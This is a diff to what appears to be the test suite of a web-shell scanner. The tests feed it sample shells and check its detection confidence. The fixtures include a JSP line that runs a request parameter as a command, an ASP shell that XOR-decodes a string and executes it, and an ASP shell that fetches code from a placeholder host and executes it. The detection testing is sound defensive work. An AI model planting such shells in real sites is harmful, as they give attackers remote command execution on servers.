@@ -299,3 +299,13 @@ def test_xslt_script_in_a_string():
 def test_jsp_saved_as_asp_goes_to_the_jsp_reader():
     hits = scan('<%@ page language="java" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>', "x.asp")
     assert webshell.is_shell(hits) and hits[0].rule == "jsp.request-to-exec" and hits[0].language == "jsp"
+
+
+def test_execute_of_a_variable_decoded_at_run_time():
+    h = shell('<%\nDim k\nk = "}q%#~<@!)(*&^%$#@!+_}{|:?><~`1"\nk = dec(k)\nExecute k\n'
+              'Function dec(s)\nFor i = 1 To Len(s)\ndec = dec & Chr(Asc(Mid(s, i, 1)) Xor 7)\nNext\nEnd Function\n%>')
+    assert h.confidence >= 0.6
+    h = shell('<%\nc = fetch("http://example.invalid/c.txt")\nExecute c\nFunction fetch(u)\n'
+              'Set x = CreateObject("MSXML2.ServerXMLHTTP")\nx.Open "GET", u, False\nx.Send\nfetch = x.responseText\n'
+              'End Function\n%>')
+    assert h.confidence >= 0.75
